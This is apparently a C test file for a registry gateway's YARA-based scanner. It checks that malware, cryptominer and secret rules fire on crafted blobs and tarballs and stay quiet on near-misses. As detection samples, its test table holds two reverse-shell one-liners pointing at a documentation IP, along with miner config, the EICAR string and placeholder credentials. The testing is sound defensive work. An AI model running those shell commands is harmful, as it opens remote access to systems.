/*
 * test_scan.c - blobs looked through: the rules of deploy/rules on what they are for, and blobs of every make.
 *
 * clamd is played by tests/e2e/malware.py with the real one.
 *
 * SPDX-License-Identifier: Apache-2.0
 */
#include <pthread.h>
#include <stdlib.h>
#include <unistd.h>
#include <zlib.h>

#include "check.h"
#include "gateway/scan/rules.h"
#include "gateway/scan/scan.h"
#include "policy/manifest.h"

/* Put together here, so that no scanner takes this file for one. */
#define EICAR "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD" "-ANTIVIRUS-TEST-FILE!$H+H*"
#define KEY64 "MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun"
#define WALLET "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

static const struct {
	const char *text, *rule;	/* NULL: none matches */
	bool secret;
} texts[] = {
	{ EICAR, "EICAR_Test_File", false },
	{ "EICAR-STANDARD is the name of a test", NULL, false },
	{ "\177ELF .. stratum+tcp://pool randomx --donate-level", "Cryptominer_Program", false },
	{ "how to block stratum+tcp://pool with randomx and --donate-level", NULL, false },
	{ "{\"pools\":[{\"url\":\"pool.example:3333\",\"user\":\"" WALLET "\"}]}", "Cryptominer_Configuration", false },
	{ "{\"pools\":[{\"url\":\"db.example:5432\",\"user\":\"app\"}]}", NULL, false },
	{ "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "Reverse_Shell_Script", false },
	{ "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1", "Reverse_Shell_Script", false },
	{ "exec 3<>/dev/tcp/localhost/80; echo ok >&3", NULL, false },
	{ "-----BEGIN RSA PRIVATE KEY-----\n" KEY64 "\n", "Private_Key", true },
	{ "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" KEY64, NULL, false },
	{ "-----BEGIN PUBLIC KEY-----\n" KEY64 "\n", NULL, false },
	{ "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYab\n",
	    "AWS_Access_Key", true },
	{ "aws_access_key_id = AKIAIOSFODNN7EXAMPLE", NULL, false },
	{ "token ghp_0123456789abcdefghijABCDEFGHIJ012345 end", "GitHub_Token", true },
	{ "ghp_short", NULL, false },
	{ "xoxb-123456789012-abcdefghijklmnopqrstuvwx", "Slack_Token", true },
	{ "xoxb-", NULL, false },
	{ "{\"auths\": {\"r.example\": {\"auth\": \"dXNlcjpwYXNzd29yZA==\"}}}", "Docker_Login", true },
	{ "{\"auths\": {\"r.example\": {}}}", NULL, false },
	{ "kind: Config\nclusters: []\nusers:\n- user:\n    token: abcdefghijklmnopqrstuvwxyz\n", "Kubeconfig", true },
	{ "kind: Config\nclusters: []\nusers: []\n", NULL, false },
};

static char *malware[] = { (char[]){ "deploy/rules/malware.yar" } }, *secrets[] = { (char[]){ "deploy/rules/secrets.yar" } };
static struct engine *engine;

/* ---- reading ---- */

struct source {
	const char *p;
	size_t n, step;
	bool fails;
};

static long
read_source(void *ctx, const char **p, char *err, size_t err_size)
{
	struct source *s = ctx;
	size_t n = s->n < s->step ? s->n : s->step;

	if (s->fails && n == 0) {
		snprintf(err, err_size, "the registry hung up");
		return -1;
	}
	*p = s->p;
	s->p += n;
	s->n -= n;
	return (long)n;
}

static struct scan_result *
scan(const void *p, size_t n, size_t step, bool fails)
{
	static struct scan_result r;
	struct source s = { p, n, step, fails };

	scan_blob(engine, read_source, &s, n, NULL, &r);
	return &r;
}

/* ---- tars ---- */

struct bytes {
	char *p;
	size_t n;
};

static void
put(struct bytes *b, const void *p, size_t n)
{
	b->p = realloc(b->p, b->n + n + 1);
	if (b->p == NULL)
		exit(1);
	memcpy(b->p + b->n, p, n);
	b->n += n;
}

static void
add_file(struct bytes *b, const char *name, const char *text, size_t n)
{
	static const char zeros[512];
	char head[513] = "";
	unsigned sum = 0;

	snprintf(head, 100, "%s", name);
	snprintf(head + 100, 8, "%07o", 0644u);
	snprintf(head + 108, 8, "%07o", 0u);
	snprintf(head + 116, 8, "%07o", 0u);
	snprintf(head + 124, 12, "%011zo", n);
	snprintf(head + 136, 12, "%011o", 0u);
	memset(head + 148, ' ', 8);
	head[156] = '0';
	memcpy(head + 257, "ustar\00000", 8);
	for (size_t i = 0; i < 512; i++)
		sum += (unsigned char)head[i];
	snprintf(head + 148, 8, "%06o", sum);
	put(b, head, 512);
	put(b, text, n);
	put(b, zeros, (512 - n % 512) % 512);
}

static void
end_tar(struct bytes *b)
{
	static const char zeros[1024];

	put(b, zeros, sizeof zeros);
}

static struct bytes
gzipped(const char *p, size_t n)
{
	struct bytes out = { malloc(n + n / 10 + 1024), n + n / 10 + 1024 };
	z_stream z = { 0 };

	if (out.p == NULL || deflateInit2(&z, 1, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK)
		exit(1);
	z.next_in = (Bytef *)(uintptr_t)p;
	z.avail_in = (uInt)n;
	z.next_out = (Bytef *)out.p;
	z.avail_out = (uInt)out.n;
	CHECK(deflate(&z, Z_FINISH) == Z_STREAM_END);
	out.n -= z.avail_out;
	deflateEnd(&z);
	return out;
}

/* ---- rows ---- */

static void
test_texts(void)
{
	for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
		const struct scan_result *r = scan(texts[i].text, strlen(texts[i].text), 7, false);
		char rule[160];

		snprintf(rule, sizeof rule, "yara:%s", texts[i].rule == NULL ? "" : texts[i].rule);
		CHECK_ROW(r->outcome == (texts[i].rule == NULL ? SCAN_CLEAN : SCAN_FOUND), texts[i].text);
		CHECK_ROW(texts[i].rule == NULL || (r->n_findings == 1 && strcmp(r->finding[0].rule, rule) == 0), texts[i].text);
		CHECK_ROW(r->malware == (texts[i].rule != NULL && !texts[i].secret) && r->secrets == texts[i].secret, texts[i].text);
		CHECK_ROW(r->diff_id[0] == '\0' && strlen(r->digest) == 71, texts[i].text);
	}
}

static void
test_tars(void)
{
	static const size_t steps[] = { 1, 511, 512, 4097, 1u << 20 };
	struct bytes tar = { 0 }, gz, two;
	char digest[72], diff_id[72];

	add_file(&tar, "etc/passwd", "root", 4);
	add_file(&tar, "usr/bin/bad", EICAR, strlen(EICAR));
	add_file(&tar, "root/.docker/config.json", texts[18].text, strlen(texts[18].text));
	add_file(&tar, "empty", "", 0);
	end_tar(&tar);
	gz = gzipped(tar.p, tar.n);
	digest_sha256((struct span){ gz.p, gz.n }, digest);
	digest_sha256((struct span){ tar.p, tar.n }, diff_id);
	for (size_t i = 0; i < sizeof steps / sizeof steps[0]; i++) {
		const struct scan_result *r = scan(gz.p, gz.n, steps[i], false);

		CHECK(r->outcome == SCAN_FOUND && r->malware && r->secrets && r->n_findings == 2 && r->entries == 4);
		CHECK(strcmp(r->finding[0].path, "usr/bin/bad") == 0 && strcmp(r->finding[1].path, "root/.docker/config.json") == 0);
		CHECK(strcmp(r->digest, digest) == 0 && strcmp(r->diff_id, diff_id) == 0 && r->unpacked == tar.n && r->bytes == gz.n);
	}
	CHECK(scan(gz.p, gz.n - 9, 4096, false)->outcome == SCAN_UNSCANNABLE);
	CHECK(scan(gz.p, gz.n, 4096, true)->outcome == SCAN_ERROR);
	CHECK(scan(tar.p, tar.n - 1024, 4096, false)->outcome != SCAN_ERROR);	/* without its end: many writers leave it out */
	CHECK(scan(tar.p, 700, 4096, false)->outcome == SCAN_UNSCANNABLE);
	/* in the second of two members */
	two = gzipped(tar.p, 512);
	free(gz.p);
	gz = gzipped(tar.p + 512, tar.n - 512);
	put(&two, gz.p, gz.n);
	CHECK(scan(two.p, two.n, 4096, false)->malware);
	put(&two, "tail", 4);
	CHECK(scan(two.p, two.n, 4096, false)->outcome == SCAN_UNSCANNABLE);
	free(two.p);
	free(gz.p);
	free(tar.p);
}

/* Across the edge of what is looked at together, and far behind it. */
static void
test_windows(void)
{
	size_t n = 2 * (size_t)RULES_WINDOW + 100000;
	char *big = malloc(n);
	static const char shell[] = "token ghp_0123456789abcdefghijABCDEFGHIJ012345 end";
	static const size_t places[] = { 0, RULES_WINDOW - 20, RULES_WINDOW - 1, 2 * (size_t)RULES_WINDOW - RULES_OVERLAP - 7,
		2 * (size_t)RULES_WINDOW };

	if (big == NULL)
		exit(1);
	for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
		struct rules *r;
		char err[512];
		char *rules[] = { (char[]){ "tests/rules/anywhere.yar" } };
		struct config c = { .malware = { .rules = rules, .n_rules = 1, .max_unpacked = 1u << 30, .max_ratio = 1000,
			.max_entries = 10, .max_time = 60 } };
		struct engine *was = engine;

		memset(big, '.', n);
		memcpy(big + places[i], shell, sizeof shell - 1);
		r = rules_new(rules, 1, NULL, 0, err, sizeof err);
		CHECK(r != NULL);
		rules_free(r);
		engine = engine_new(&c, err, sizeof err);
		CHECK(engine != NULL && scan(big, n, 65536, false)->malware);
		engine_free(engine);
		engine = was;
	}
	free(big);
}

static void
test_bounds(void)
{
	struct bytes tar = { 0 }, gz;
	size_t n = 8u << 20;
	char *zeros = calloc(1, n), err[512], *rules[] = { (char[]){ "tests/rules/anywhere.yar" } };
	struct config c = { .malware = { .rules = rules, .n_rules = 1, .max_unpacked = 1u << 20, .max_ratio = 1000, .max_entries = 3,
		.max_time = 60 } };
	struct engine *was = engine;

	if (zeros == NULL)
		exit(1);
	engine = engine_new(&c, err, sizeof err);
	CHECK(engine != NULL);
	gz = gzipped(zeros, n);
	CHECK(scan(gz.p, gz.n, 65536, false)->outcome == SCAN_UNSCANNABLE);
	for (int i = 0; i < 4; i++)
		add_file(&tar, "f", "x", 1);
	end_tar(&tar);
	CHECK(scan(tar.p, tar.n, 65536, false)->outcome == SCAN_UNSCANNABLE);
	engine_free(engine);
	engine = was;
	free(gz.p);
	free(tar.p);
	free(zeros);
}

static void *
many(void *arg)
{
	struct scan_result *r = malloc(sizeof *r);

	for (int i = 0; r != NULL && i < 50; i++) {
		struct source s = { EICAR, strlen(EICAR), 16, false };

		scan_blob(engine, read_source, &s, 0, NULL, r);
		*(int *)arg += r->malware;
	}
	free(r);
	return NULL;
}

static void
test_threads(void)
{
	pthread_t t[4];
	int found[4] = { 0 };

	for (int i = 0; i < 4; i++)
		CHECK(pthread_create(&t[i], NULL, many, &found[i]) == 0);
	for (int i = 0; i < 4; i++) {
		pthread_join(t[i], NULL);
		CHECK(found[i] == 50);
	}
}

int
main(void)
{
	struct config c = { .malware = { .rules = malware, .n_rules = 1, .secrets = secrets, .n_secrets = 1, .max_unpacked = 1u << 30,
		.max_ratio = 200, .max_entries = 1000, .max_time = 60 } };
	char err[1024];

	engine = engine_new(&c, err, sizeof err);
	if (!CHECK(engine != NULL)) {
		fputs(err, stderr);
		return check_done();
	}
	CHECK(strncmp(engine_version(engine), "yara:", 5) == 0 && engine_self_test(engine, err, sizeof err));
	test_texts();
	test_tars();
	test_windows();
	test_bounds();
	test_threads();
	engine_free(engine);
	return check_done();
}
